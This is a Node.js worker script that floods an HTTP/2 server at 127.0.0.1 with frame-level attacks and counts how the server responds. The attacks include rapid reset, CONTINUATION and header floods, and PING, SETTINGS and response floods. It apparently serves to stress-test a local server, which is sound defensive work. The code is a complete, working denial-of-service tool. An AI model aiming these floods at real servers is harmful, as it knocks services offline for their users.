// Floods of HTTP/2, frame by frame, in a thread of their own: each kind over so many connections, which are made anew when the
// server closes them. Tells how many connections and frames it took, and what the server said of them.
import { connect } from 'node:tls';
import { setTimeout as sleep } from 'node:timers/promises';
import { parentPort, workerData } from 'node:worker_threads';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const [HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION] = [1, 3, 4, 6, 7, 9];
const [END_STREAM, END_HEADERS] = [1, 4];
/** What a GOAWAY gives as its reason (RFC 9113, section 7). */
const REASONS = ['none', 'protocol', 'internal', 'flow control', 'settings timeout', 'stream closed', 'frame size', 'refused', 'cancel', 'compression', 'connect', 'calm down', 'security'];

function frame(type, flags, stream, body = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(body.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, body]);
}

const text = (value) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
/** A header that no table has (RFC 7541, section 6.2.2), of about 120 bytes. */
const stranger = (n) => Buffer.concat([Buffer.from([0]), text(`x-${String(n).padStart(6, '0')}`), text('a'.repeat(110))]);
const asked = (method) => Buffer.concat([Buffer.from([method === 'GET' ? 0x82 : 0x83, 0x84, 0x87, 0x01]), text('127.0.0.1')]);
const get = asked('GET');
const post = asked('POST');
const reset = (stream) => frame(RESET, 0, stream, Buffer.from([0, 0, 0, 8]));
const strangers = Buffer.concat(Array.from({ length: 130 }, (_, n) => stranger(n)));
const noWindow = frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));

/** What each kind sends next on a connection that has sent `sent` frames; nothing when it only waits from now on. */
const kinds = {
  'rapid reset': (at) => [frame(HEADERS, END_STREAM | END_HEADERS, at.stream(), get), reset(at.last)],
  'endless streams': (at) => at.sent < 20_000 && [frame(HEADERS, END_HEADERS, at.stream(), post)],
  'endless headers': (at) => (at.sent ? [frame(CONTINUATION, 0, at.last, strangers)] : [frame(HEADERS, 0, at.stream(), get)]),
  'large headers': (at) => [
    frame(HEADERS, END_STREAM, at.stream(), get),
    ...Array.from({ length: 5 }, (_, n) => frame(CONTINUATION, n === 4 ? END_HEADERS : 0, at.last, strangers)),
  ],
  'empty continuations': (at) => (at.sent ? [frame(CONTINUATION, 0, at.last)] : [frame(HEADERS, 0, at.stream(), get)]),
  'pings unread': () => [frame(PING, 0, 0, Buffer.alloc(8))],
  'settings unread': () => [frame(SETTINGS, 0, 0)],
  'answers unread': (at) => at.sent < 100 && [...(at.sent ? [] : [noWindow]), frame(HEADERS, END_STREAM | END_HEADERS, at.stream(), get)],
};

const told = { connections: 0, frames: 0, closed: 0, resets: 0, said: {} };

/** Counts what the server says. */
function listen(socket) {
  let held = Buffer.alloc(0);
  socket.on('data', (bytes) => {
    held = Buffer.concat([held, bytes]);
    while (held.length >= 9) {
      const size = held.readUIntBE(0, 3);
      if (held.length < 9 + size) return;
      const type = held.readUInt8(3);
      if (type === RESET) told.resets += 1;
      if (type === GOAWAY) {
        const reason = REASONS[held.readUInt32BE(13)] ?? 'unknown';
        told.said[reason] = (told.said[reason] ?? 0) + 1;
      }
      held = held.subarray(9 + size);
    }
  });
}

/** One connection until the server closes it or time is up. */
async function attack({ port, kind }, until) {
  const socket = connect({ port, host: '127.0.0.1', rejectUnauthorized: false, ALPNProtocols: ['h2'] });
  let open = true;
  const gone = new Promise((over) => socket.on('close', () => { open = false; over(); }));
  socket.on('error', () => {});
  await Promise.race([new Promise((ready) => socket.once('secureConnect', ready)), gone]);
  if (!open) return;
  told.connections += 1;
  if (kind.endsWith('unread') && kind !== 'answers unread') socket.pause();
  else listen(socket);
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]));
  const at = { sent: 0, last: -1, stream: () => (at.last += 2) };
  while (open && Date.now() < until) {
    const batch = [];
    for (let n = 0; n < 50; n += 1) {
      const next = kinds[kind](at);
      if (!next) break;
      batch.push(...next);
      at.sent += next.length;
    }
    told.frames += batch.length;
    const room = batch.length > 0 && socket.write(Buffer.concat(batch));
    if (batch.length === 0) await Promise.race([gone, sleep(50)]);
    else if (!room) await Promise.race([gone, new Promise((drained) => socket.once('drain', drained)), sleep(until - Date.now())]);
    else await sleep(0);
  }
  if (!open) told.closed += 1;
  socket.destroy();
}

const until = Date.now() + workerData.seconds * 1_000;
await Promise.all(Array.from({ length: workerData.connections }, async () => {
  while (Date.now() < until) await attack(workerData, until);
}));
parentPort.postMessage(told);
